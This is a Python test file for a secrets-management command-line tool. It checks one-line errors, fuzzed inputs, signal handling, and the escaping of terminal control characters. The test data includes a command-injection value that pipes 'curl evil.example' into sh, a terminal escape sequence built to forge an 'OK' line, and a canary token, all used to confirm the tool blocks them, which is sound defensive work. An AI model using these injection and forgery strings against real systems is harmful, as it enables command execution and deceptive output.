"""Guard rails of the command line, each beside the attack or accident it stops (issue: guard rails, items 9 and 11).

Every error is one ``error:`` line on stderr with exit status 2: no traceback, and no value a person typed
or a file held is repeated (a mistyped command line or a corrupt file can hold a token). The table below
is the list a newcomer reads; the fuzz tests beneath it prove the same for inputs nobody listed.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from secret_chain.ops.cli import main

ROOT = Path(__file__).resolve().parent.parent
CANARY = "ghp_CANARY0123456789abcdefCANARY0123456"
STATE = ROOT / "tests" / "data" / "stack-export.json"
EXAMPLE = ROOT / "examples" / "config" / "preview.json"


@dataclass(frozen=True)
class Case:
    """One attack or accident: the command line (``{tmp}`` is a scratch directory) and what the error must say."""

    argv: tuple[str, ...]
    says: str
    files: tuple[tuple[str, bytes], ...] = ()


CASES: dict[str, Case] = {
    # Raw tracebacks found by the adversarial pass
    "warn-days-overflow": Case(("rotation", "--state", str(STATE), "--warn-days", "1000000000"), "from 0 to 3650 days"),
    "readme-not-utf8": Case(("inventory", "--readme", "{tmp}/README.md"), "not UTF-8 text", (("README.md", b"\xff\xfe\x00bad"),)),
    "rotation-doc-not-utf8": Case(("inventory", "--rotation-doc", "{tmp}/r.md"), "not UTF-8 text", (("r.md", b"\xff\xfe\x00bad"),)),
    "state-not-utf8": Case(("rotation", "--state", "{tmp}/s.json"), "not UTF-8 text", (("s.json", b"\xff" + CANARY.encode()),)),
    "config-not-json": Case(("preflight", "--stack", "production", "--config", "{tmp}/c.json"), "not valid JSON", (("c.json", CANARY.encode()),)),
    "config-not-an-object": Case(("plan", "--stack", "production", "--config", "{tmp}/c.json"), "must be an object", (("c.json", b"[1]"),)),
    "config-lone-surrogate": Case(
        ("preflight", "--stack", "production", "--config", "{tmp}/c.json"),
        "",
        (("c.json", b'{"prometheus:authToken": {"value": "\\ud800' + CANARY.encode() + b'", "secret": true}}'),),
    ),
    # Values typed on the command line are never repeated
    "unrecognized-argument": Case(("preflight", "--stack", "production", CANARY), "1 unrecognized argument(s) (not shown)"),
    "invalid-choice": Case(("inventory", "--environment", CANARY), "invalid choice"),
    "unknown-command": Case((CANARY,), "invalid choice"),
    "missing-argument": Case(("plan",), "the following arguments are required: --stack"),
    "control-character-stack": Case(("preflight", "--stack", "\r"), "is not a secret-chain stack name"),
    "newline-in-a-path": Case(("preflight", "--stack", "production", "--config", "{tmp}/no\nsuch"), "cannot read config file"),
    "many-problems-one-line": Case(
        ("plan", "--stack", "production", "--config", "{tmp}/c.json"),
        "is not valid",
        (("c.json", b'{"secret-chain:escEnvironment": {"value": "acme/secret-chain/Production", "secret": false}, '
                    b'"secret-chain:parts": {"value": "[\\"GhcrPullSecret\\", \\"PrometheusAuth\\"]", "objectValue": '
                    b'["GhcrPullSecret", "PrometheusAuth"], "secret": false}}'),),
    ),
    # secret-chain:escEnvironment and --esc-environment are pasted into printed commands: only a reference passes
    "esc-environment-shell": Case(("rotation", "--state", str(STATE), "--esc-environment", "x; curl evil.example | sh"), "<org>/<project>/<env>"),
}


def _materialise(case: Case, tmp: Path) -> list[str]:
    for name, content in case.files:
        (tmp / name).write_bytes(content)
    return [arg.replace("{tmp}", str(tmp)) for arg in case.argv]


@pytest.mark.parametrize("name", list(CASES), ids=list(CASES))
def test_each_guarded_error_is_one_line_without_values(name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    case = CASES[name]
    code = main(_materialise(case, tmp_path))
    out, err = capsys.readouterr()
    assert code in (1, 2) if name == "config-lone-surrogate" else code == 2
    if code == 2:
        lines = err.splitlines()
        assert len(lines) == 1 and lines[0].startswith("error: "), err
        assert case.says in lines[0]
    assert "Traceback" not in out + err
    assert "CANARY" not in out + err and "curl" not in out + err


def test_a_shell_command_planted_in_esc_environment_never_reaches_a_printed_command(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    config = json.loads(EXAMPLE.read_text())
    config["secret-chain:escEnvironment"] = {"value": "acme/x; curl evil.example | sh #", "secret": False}
    config["prometheus:authToken"]["value"] = "x"  # malformed, so that its fix is printed
    path = tmp_path / "c.json"
    path.write_text(json.dumps(config))
    code = main(["preflight", "--stack", "preview-pr-3", "--config", str(path)])
    out, err = capsys.readouterr()
    assert code == 1
    assert "curl" not in out + err
    assert 'config "secret-chain:escEnvironment"' in out  # reported as malformed itself
    assert "pulumi env set <org>/secret-chain/PullRequest pulumiConfig.prometheus:authToken" in out
    code = main(["plan", "--stack", "preview-pr-3", "--config", str(path)])
    out, err = capsys.readouterr()
    assert code == 2 and "curl" not in out + err


# --- fuzz: the parser and the file readers --------------------------------------------------------------------

WORDS = st.sampled_from(
    [
        "preflight", "plan", "inventory", "rotation", "--stack", "--config", "--json", "--environment", "--state",
        "--warn-days", "--now", "--esc-environment", "--preview", "production", "preview-base", "preview-pr-7", "preview",
        "-1", "99999999999999999999", "2026-13-45", "acme/secret-chain/Production", "", "\x00", "--", "-", "\udcff",
    ]
)  # fmt: skip
TEXT = st.text(max_size=12)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(argv=st.lists(st.one_of(WORDS, TEXT), max_size=7))
def test_fuzzed_command_lines_end_in_a_status_never_a_traceback(argv: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    if any(a in ("plan",) for a in argv) and "--config" not in argv:
        argv = [*argv, "--config", str(EXAMPLE)]  # never shell out to a pulumi CLI
    try:
        code = main(argv)
    except SystemExit as exit_:  # --help prints and exits 0
        assert exit_.code == 0
        capsys.readouterr()
        return
    out, err = capsys.readouterr()
    assert code in (0, 1, 2)
    assert "Traceback" not in out + err
    if code == 2 and err.startswith("usage: "):  # no command named: the usage and the commands, then the error line
        assert err.splitlines()[-1] == "error: secret-chain: name a command (see secret-chain --help)", err
    elif code == 2:
        assert len(err.splitlines()) == 1 and err.startswith("error: "), err


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(content=st.one_of(st.binary(max_size=300), st.text(max_size=300).map(str.encode)), command=st.sampled_from(["preflight", "rotation"]))
def test_fuzzed_files_end_in_a_status_never_a_traceback(content: bytes, command: str, tmp_path_factory: pytest.TempPathFactory) -> None:
    path = tmp_path_factory.mktemp("fuzz") / "input.json"
    path.write_bytes(content)
    argv = ["preflight", "--stack", "production", "--config", str(path)] if command == "preflight" else ["rotation", "--state", str(path)]
    proc_out: list[str] = []
    import contextlib
    import io

    err, out = io.StringIO(), io.StringIO()
    with contextlib.redirect_stderr(err), contextlib.redirect_stdout(out):
        code = main(argv)
    proc_out.append(err.getvalue())
    assert code in (0, 1, 2)
    assert "Traceback" not in out.getvalue() + err.getvalue()
    if code == 2:
        assert len(err.getvalue().splitlines()) == 1 and err.getvalue().startswith("error: ")


# --- parallel runs: a clean stderr at exit ------------------------------------------------------------------


def _plan(_: int) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "secret_chain", "plan", "--stack", "preview-pr-9", "--config", str(EXAMPLE)],
        capture_output=True,
        text=True,
        cwd=ROOT,
        env={**os.environ, "PYTHONWARNINGS": "default"},
        timeout=300,
        check=False,
    )


def test_parallel_plans_exit_cleanly_with_an_empty_stderr() -> None:
    """Four plans at once, three times: the offline evaluator's event loop was once left to the garbage collector,
    which at exit printed ``Exception ignored in: <function BaseEventLoop.__del__ …>`` in about 1 run in 6."""
    run: Callable[[int], subprocess.CompletedProcess[str]] = _plan
    with ThreadPoolExecutor(max_workers=4) as pool:
        results = [r for _ in range(3) for r in pool.map(run, range(4))]
    for result in results:
        assert result.returncode == 0, result.stderr
        assert result.stderr == "", result.stderr


# --- what preflight reports (issue: guard rails, items 2, 5 and 10) ------------------------------------------------
# Item 10: a mistyped `key=value` line arrives as a key: it is never printed. Item 5: a plain key stored as a secret
# is published where it flows: warned. Item 2: the repository's owner must be the GitHub provider's, one rule for
# the component and preflight (github_actions.owner_problem).

from tests.test_cli_preflight import full_config, hex_, run, write  # noqa: E402  (the preflight tests' config builders)


def test_an_unknown_key_that_holds_a_value_is_never_printed(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    token = "CANARY" + hex_(32)
    values = {f"prometheus:authToken={token}": ("x", False)}
    for fmt in ([], ["--json"]):
        code, out, err = run(capsys, "preflight", "--stack", "production", "--config", write(tmp_path, values), *fmt)
        assert code == 0
        assert "CANARY" not in out + err and "namespace prometheus" in out


def test_a_plain_key_stored_as_secret_is_warned_about(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """ci:githubAppId is written as the plain Actions variable APP_ID: marking it secret does not keep it secret."""
    values = full_config("app")
    values["ci:githubAppId"] = (values["ci:githubAppId"][0], True)
    code, out, _ = run(capsys, "preflight", "--stack", "production", "--config", write(tmp_path, values), "--json")
    report = json.loads(out)
    assert code == 0
    (warning,) = [w for w in report["warnings"] if w["kind"] == "secret-plain"]
    assert warning["key"] == "ci:githubAppId" and "APP_ID" in warning["message"]


@pytest.mark.parametrize(("owner", "says"), [(None, "are unset"), ("someone-else", 'config "github:owner" is someone-else')])
def test_the_repository_owner_must_be_the_github_providers(tmp_path: Path, capsys: pytest.CaptureFixture[str], owner: str | None, says: str) -> None:
    """preflight applies the component's own rule (github_actions.owner_problem): plan fails on the same config."""
    values = full_config("app")
    if owner is None:
        del values["github:owner"]
    else:
        values["github:owner"] = (owner, False)
    path = write(tmp_path, values)
    code, out, _ = run(capsys, "preflight", "--stack", "production", "--config", path, "--json")
    (problem,) = json.loads(out)["problems"]
    assert code == 1 and problem["key"] == "secret-chain:githubRepository" and problem["kind"] == "owner" and says in problem["message"]
    assert problem["fix"] == "pulumi config set github:owner acme"
    code, _, err = run(capsys, "plan", "--stack", "production", "--config", path)
    assert code == 2 and says in err


# --- the process's own edges (issue 20, item 6): a closed or full stdout, Ctrl-C, inputs Python cannot read --------
# Each ended in `error: unexpected …, please report it` (or a KeyboardInterrupt traceback). Now they end as other
# well-behaved tools end (components/secret_chain/ops/cli.py's docstring): 141 and silence when the reader of stdout went away
# (Python docs, signal module, "Note on SIGPIPE"), one `error:` line and 2 when stdout cannot be written, 130 on
# SIGINT. Run as real processes: a pipe, a closed descriptor and a signal cannot be faked in-process.

PREFLIGHT = ("preflight", "--stack", "preview-pr-9", "--config", str(EXAMPLE))


def _cli(*argv: str, **popen: object) -> subprocess.Popen[str]:
    return subprocess.Popen(  # type: ignore[call-overload, no-any-return]
        [sys.executable, "-m", "secret_chain", *argv], stderr=subprocess.PIPE, text=True, cwd=ROOT, **popen
    )


@pytest.mark.parametrize("argv", [PREFLIGHT, ("--help",)], ids=["preflight", "help"])
def test_a_reader_that_went_away_ends_the_command_quietly_with_141(argv: tuple[str, ...]) -> None:
    """``secret-chain … | true``: the pipe's reader is gone before the first write (EPIPE)."""
    read_end, write_end = os.pipe()
    os.close(read_end)
    try:
        process = _cli(*argv, stdout=write_end)
    finally:
        os.close(write_end)
    _, err = process.communicate(timeout=120)
    assert (process.returncode, err) == (141, "")


@pytest.mark.parametrize(
    ("stdout", "reason"),
    [("closed", "it is closed"), ("/dev/full", "No space left on device")],
    ids=["closed", "dev-full"],
)
def test_a_stdout_that_cannot_be_written_is_one_error_line(stdout: str, reason: str) -> None:
    """``secret-chain … >&-`` and ``secret-chain … > /dev/full``: as coreutils' ``write error: …``, exit 2."""
    if stdout == "closed":
        process = _cli(*PREFLIGHT, stdout=subprocess.DEVNULL, preexec_fn=lambda: os.close(1))
    else:
        if not Path(stdout).exists():
            pytest.skip("no /dev/full here")
        with open(stdout, "w") as full:
            process = _cli(*PREFLIGHT, stdout=full)
    _, err = process.communicate(timeout=120)
    assert process.returncode == 2
    assert err == f"error: cannot write to standard output: {reason}\n"


def _sigint_handler_installed(pid: int) -> bool:
    """Whether the process catches SIGINT (its ``SigCgt`` mask in /proc): Python has installed its handler."""
    status = Path(f"/proc/{pid}/status").read_text()
    caught = next(line.split()[1] for line in status.splitlines() if line.startswith("SigCgt:"))
    return bool(int(caught, 16) & (1 << (2 - 1)))


def _reading_stdin(pid: int) -> bool:
    """Whether the process's main thread is blocked reading its standard input, a pipe (wchan ``pipe_read`` or
    ``anon_pipe_read``, else the ``read`` system call on descriptor 0 in ``/proc/<pid>/syscall``)."""
    base = Path(f"/proc/{pid}")
    try:
        if "pipe_read" in (base / "wchan").read_text():
            return True
        fields = (base / "syscall").read_text().split()
    except OSError:
        return False
    read = {"x86_64": "0", "aarch64": "63"}.get(os.uname().machine)
    return len(fields) > 1 and fields[0] == read and int(fields[1], 16) == 0


@pytest.mark.parametrize("moment", ["importing", "running"])
def test_ctrl_c_at_any_moment_ends_in_one_line_and_130(moment: str) -> None:
    """SIGINT while the package and the SDK load (start-up) and while the command runs: no KeyboardInterrupt traceback.

    Raised as KeyboardInterrupt in the running command it was also swallowed (a weakref callback printed ``Exception
    ignored`` and the command exited 0) or hung the process (a task left waiting on a thread): cli._interrupted.
    ``plan`` of production: the SDK takes most of a second to import, and the program's offline evaluation more. For
    "running" the config arrives on standard input once the command waits for it, so the signal comes 0.3 s into the
    evaluation (an inventory, which once evaluated the programs too, now reads package data and is done at once)."""
    import signal
    import time

    if not Path("/proc/self/status").exists():
        pytest.skip("needs /proc to see when Python catches SIGINT")
    config = ROOT / "examples" / "config" / "production.json"
    source = "-" if moment == "running" else str(config)
    process = _cli("plan", "--stack", "production", "--config", source, stdout=subprocess.DEVNULL, stdin=subprocess.PIPE)
    assert process.stdin is not None
    deadline = time.monotonic() + 60
    while not _sigint_handler_installed(process.pid):  # before that, SIGINT would end the interpreter itself
        assert time.monotonic() < deadline and process.poll() is None
        time.sleep(0.005)
    if moment == "running":
        while not _reading_stdin(process.pid):
            assert time.monotonic() < deadline and process.poll() is None
            time.sleep(0.005)
        process.stdin.write(config.read_text())
    process.stdin.close()
    time.sleep(0.3)
    process.send_signal(signal.SIGINT)
    err = process.stderr.read() if process.stderr is not None else ""
    process.wait(timeout=120)
    assert "Traceback" not in err
    assert (process.returncode, err) == (130, "error: interrupted\n")


def test_json_nested_100000_deep_is_one_error_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    deep = tmp_path / "deep.json"
    deep.write_text("[" * 100_000 + "]" * 100_000)
    for argv in (("rotation", "--state", str(deep)), ("preflight", "--stack", "production", "--config", str(deep))):
        assert main(list(argv)) == 2
        what = "state" if argv[0] == "rotation" else "config"
        assert capsys.readouterr().err == f"error: {what} file {deep} is nested too deeply: more than 200 levels of arrays and objects\n"


def test_json_just_under_the_recursion_limit_is_refused_before_it_is_walked(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """990 levels parse (json.loads stops only at the recursion limit), but walking them did not: RecursionError."""
    config = tmp_path / "c.json"
    config.write_text(json.dumps({"secret-chain:imageAutomation": {"value": "x", "objectValue": {"images": "PLACE"}, "secret": False}}).replace(
        '"PLACE"', "[" * 990 + "]" * 990
    ))
    assert main(["plan", "--stack", "production", "--config", str(config)]) == 2
    assert "is nested too deeply" in capsys.readouterr().err


def test_a_5000_digit_integer_is_one_error_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Python refuses to convert more than 4300 digits (``sys.get_int_max_str_digits``): json.loads raises ValueError."""
    big = tmp_path / "big.json"
    big.write_text('{"deployment": {"resources": [' + "7" * 5000 + "]}}")
    assert main(["rotation", "--state", str(big)]) == 2
    said = f"error: state file {big} holds an integer of more than 4300 digits, which Python does not read (int_max_str_digits)\n"
    assert capsys.readouterr().err == said
    assert main(["rotation", "--state", str(STATE), "--warn-days", "9" * 5000]) == 2
    assert "must be from 0 to 3650 days" in capsys.readouterr().err
    config = json.loads(EXAMPLE.read_text())
    config["grafana:smtpPort"] = {"value": "5" * 5000, "secret": False}
    (tmp_path / "c.json").write_text(json.dumps(config))
    assert main(["preflight", "--stack", "preview-pr-9", "--config", str(tmp_path / "c.json"), "--json"]) == 1
    (problem,) = [p for p in json.loads(capsys.readouterr().out)["problems"] if p["key"] == "grafana:smtpPort"]
    assert "out of range" in problem["message"]


def test_stdin_closed_is_one_error_line(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "stdin", None)
    assert main(["preflight", "--stack", "production", "--config", "-"]) == 2
    assert capsys.readouterr().err == "error: cannot read config file from standard input: it is closed\n"


# --- what reaches the terminal from config and state is escaped (issue 20, item 6) ------------------------------------
# One helper, secret_chain.validators.printable, escapes every character a terminal acts on. Without it a github:owner
# holding a newline and an escape sequence printed a green `OK: the config is ready` under the problems, and an object
# name in a state file could do the same to `rotation` and `forget-shared`.

FORGED = "\n\x1b[32mOK: the config is ready for `pulumi up`.\x1b[0m\x9b2J\u202e"


def _forged_lines(out: str) -> list[str]:
    return [line for line in out.splitlines() if line.startswith("OK:") or "\x1b" in line or "\x9b" in line or "\u202e" in line]


def test_preflight_escapes_a_github_owner_that_would_forge_an_ok_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    values = full_config("app")
    values["github:owner"] = ("acme-ops" + FORGED, False)
    code = main(["preflight", "--stack", "production", "--config", write(tmp_path, values)])
    out, err = capsys.readouterr()
    assert code == 1
    assert _forged_lines(out + err) == []
    assert 'config "github:owner" is acme-ops\\x0a\\x1b[32mOK: the config' in out  # shown, escaped, on the problem's own line
    assert out.rstrip().splitlines()[-1].startswith("NOT READY")


def _state_with_names(name: str, namespace: str) -> dict[str, object]:
    state = json.loads(STATE.read_text())
    for resource in state["deployment"]["resources"]:
        if resource.get("type") == "kubernetes:core/v1:Secret":
            for side in ("inputs", "outputs"):
                if isinstance(resource.get(side), dict) and "metadata" in resource[side]:
                    resource[side]["metadata"].update(name=name, namespace=namespace)
        if resource.get("type", "").startswith("github:"):
            for side in ("inputs", "outputs"):
                if isinstance(resource.get(side), dict) and "environment" in resource[side]:
                    resource[side]["environment"] = "production" + FORGED
    return state


@pytest.mark.parametrize("json_output", [False, True], ids=["text", "json"])
def test_rotation_escapes_object_names_from_the_state(tmp_path: Path, capsys: pytest.CaptureFixture[str], json_output: bool) -> None:
    path = tmp_path / "state.json"
    path.write_text(json.dumps(_state_with_names("ghcr" + FORGED, "default" + FORGED)))
    code = main(["rotation", "--state", str(path), "--now", "2026-01-01", *(["--json"] if json_output else [])])
    out, err = capsys.readouterr()
    assert code == 1
    assert _forged_lines(out + err) == []
    if json_output:
        resources = {item["resource"] for item in json.loads(out)["items"]}  # the JSON still holds the names themselves
        assert f"Secret default{FORGED}/ghcr{FORGED}" in resources
    else:
        assert "Secret default\\x0a\\x1b[32mOK: the config" in out


def test_forget_shared_escapes_the_urns_it_lists(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    def state(urn: str) -> str:
        resource = {"urn": urn, "custom": True, "type": "kubernetes:core/v1:ConfigMap", "id": "default/shared"}
        return json.dumps({"version": 3, "deployment": {"resources": [resource]}})

    (tmp_path / "s.json").write_text(state("urn:pulumi:preview-base::secret-chain::kubernetes:core/v1:ConfigMap::shared" + FORGED))
    (tmp_path / "o.json").write_text(state("urn:pulumi:production::secret-chain::kubernetes:core/v1:ConfigMap::shared"))
    code = main(["forget-shared", "--state", str(tmp_path / "s.json"), "--other", str(tmp_path / "o.json"), "--out", str(tmp_path / "out.json")])
    out, err = capsys.readouterr()
    assert code == 0 and "1 Kubernetes object(s)" in out, err
    assert _forged_lines(out + err) == []


# --- no secret on a command line (issue 20, item 6) -------------------------------------------------------------------
# Printed fixes put the value in an argument (`pulumi config set --secret prometheus:authToken $(openssl rand -hex 32)`),
# which /proc/<pid>/cmdline shows every user. What preflight, rotation and the docs print is made in one place
# (components/secret_chain/config.py); tests/test_pulumi_rules.py runs each secret's fix through the real shell. Here: what the
# commands print.


def _secret_sets(text: str) -> list[str]:
    """Every printed clause that runs ``pulumi env set``/``config set`` on a secret key."""
    from secret_chain import catalog

    secret = {k.key for k in catalog.KEYS if k.secret}
    clauses = re.split(r"\n|; | \(or, for this stack only: ", text)
    found = []
    for clause in clauses:
        match = re.search(r"pulumi (?:env set \S+ pulumiConfig\.|config set (?:--path )?(?:--secret )?)([\w:.-]+)", clause)
        if match and match.group(1) in secret:
            found.append(clause)
    return found


def test_the_fixes_preflight_and_rotation_print_read_secrets_from_a_file_or_stdin(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    config = json.loads(EXAMPLE.read_text())
    for key, item in list(config.items()):
        if item.get("secret"):
            del config[key]
    (tmp_path / "c.json").write_text(json.dumps(config))
    main(["preflight", "--stack", "preview-pr-9", "--config", str(tmp_path / "c.json")])
    preflight = capsys.readouterr().out
    main(["rotation", "--state", str(STATE), "--now", "2027-01-01"])
    rotation = capsys.readouterr().out
    for text in (preflight, rotation):
        commands = _secret_sets(text)
        assert commands, text
        for command in commands:
            # the value comes from a pipe, a file or a prompt: after the key there is nothing but flags and a redirection
            after = re.split(r"pulumiConfig\.\S+|--secret \S+", command, maxsplit=1)[1]
            assert "--secret" in command and re.fullmatch(r"( --secret| --string| --file \S+| < \S+|\)|\.)*", after), command
            assert "$(" not in command, command
